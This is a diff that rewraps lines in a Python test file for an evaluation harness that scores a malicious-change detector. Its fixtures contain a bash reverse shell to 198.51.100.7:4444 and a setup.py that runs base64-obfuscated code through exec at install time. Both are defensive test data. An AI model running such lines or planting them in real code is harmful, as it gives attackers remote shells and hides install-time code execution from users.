@@ -12,7 +12,9 @@ from reviewer.eval import evaluate, hits_marked, load_corpus, summarise
 
 
 def finding(path: str, start: int, end: int | None = None) -> Finding:
-    return Finding("r", "exfiltration", Severity.HIGH, Confidence.HIGH, path, start, end or start, "m")
+    return Finding(
+        "r", "exfiltration", Severity.HIGH, Confidence.HIGH, path, start, end or start, "m"
+    )
 
 
 def test_within_two_lines_of_a_marked_line_counts():
@@ -28,21 +30,31 @@ def test_a_path_without_lines_means_the_whole_file():
     assert hits_marked(finding("evil.sh", 400), {"evil.sh": []})
 
 
-def write_case(root: Path, case_id: str, diff: str, lines: list[int], categories: list[str]) -> None:
+def write_case(
+    root: Path, case_id: str, diff: str, lines: list[int], categories: list[str]
+) -> None:
     d = root / "malicious" / case_id
     d.mkdir(parents=True)
     (d / "change.diff").write_text(diff)
-    (d / "meta.json").write_text(json.dumps({"id": case_id, "categories": categories,
-                                             "malicious_lines": {"x.sh": lines}}))
+    (d / "meta.json").write_text(
+        json.dumps({"id": case_id, "categories": categories, "malicious_lines": {"x.sh": lines}})
+    )
 
 
 def test_corpus_scoring_end_to_end(tmp_path: Path):
-    shell = ("diff --git a/x.sh b/x.sh\nnew file mode 100644\n--- /dev/null\n+++ b/x.sh\n@@ -0,0 +1,3 @@\n"
-             "+#!/bin/sh\n+echo hello\n+bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n")
+    shell = (
+        "diff --git a/x.sh b/x.sh\nnew file mode 100644\n"
+        "--- /dev/null\n+++ b/x.sh\n@@ -0,0 +1,3 @@\n"
+        "+#!/bin/sh\n+echo hello\n+bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n"
+    )
     write_case(tmp_path, "shell", shell, [3], ["reverse-shell"])
     benign = tmp_path / "benign" / "o__r"
     benign.mkdir(parents=True)
-    (benign / "abc.diff").write_text(shell.replace("x.sh", "y.sh").replace("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "echo bye"))
+    (benign / "abc.diff").write_text(
+        shell.replace("x.sh", "y.sh").replace(
+            "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "echo bye"
+        )
+    )
     (benign / "abc.json").write_text(json.dumps({"added_lines": 3}))
     cases = load_corpus(tmp_path)
     assert [c.malicious for c in cases] == [True, False]
@@ -74,16 +86,29 @@ def test_eval_runs_on_the_shared_corpus(corpus_dir: Path):
 
 def test_a_whole_package_case_counts_a_finding_anywhere_and_reports_its_context(tmp_path: Path):
     """Package corpora label whole packages: a medium+ finding in any file detects the case."""
-    setup = ("import base64\nfrom setuptools import setup\n"
-             "exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))\nsetup(name='p')\n")
+    setup = (
+        "import base64\nfrom setuptools import setup\n"
+        "exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))\nsetup(name='p')\n"
+    )
     lines = setup.splitlines()
-    diff = ("diff --git a/setup.py b/setup.py\nnew file mode 100644\n--- /dev/null\n+++ b/setup.py\n"
-            f"@@ -0,0 +1,{len(lines)} @@\n" + "".join(f"+{line}\n" for line in lines))
+    diff = (
+        "diff --git a/setup.py b/setup.py\nnew file mode 100644\n--- /dev/null\n+++ b/setup.py\n"
+        f"@@ -0,0 +1,{len(lines)} @@\n" + "".join(f"+{line}\n" for line in lines)
+    )
     d = tmp_path / "malicious" / "p-1.0"
     d.mkdir(parents=True)
     (d / "change.diff").write_text(diff)
-    (d / "meta.json").write_text(json.dumps({"id": "p-1.0", "categories": [], "malicious_lines": {},
-                                             "family_size": 3, "added_lines": len(lines)}))
+    (d / "meta.json").write_text(
+        json.dumps(
+            {
+                "id": "p-1.0",
+                "categories": [],
+                "malicious_lines": {},
+                "family_size": 3,
+                "added_lines": len(lines),
+            }
+        )
+    )
     benign = tmp_path / "benign" / "o__r"
     benign.mkdir(parents=True)
     (benign / "setup-py.diff").write_text(diff.replace("exec(base64.b64decode(", "print(("))
@@ -95,4 +120,6 @@ def test_a_whole_package_case_counts_a_finding_anywhere_and_reports_its_context(
     assert s["per_context"]["install"]["detected"] == 1
     assert s["detected_by_category"].get("obfuscated-exec") == 1
     assert s["slowest"] and all(row["seconds"] >= 0 for row in s["slowest"])
-    assert s["benign_medium_plus"] == sum(v["medium_plus"] for v in s["noise_per_analyzer"].values())
+    assert s["benign_medium_plus"] == sum(
+        v["medium_plus"] for v in s["noise_per_analyzer"].values()
+    )
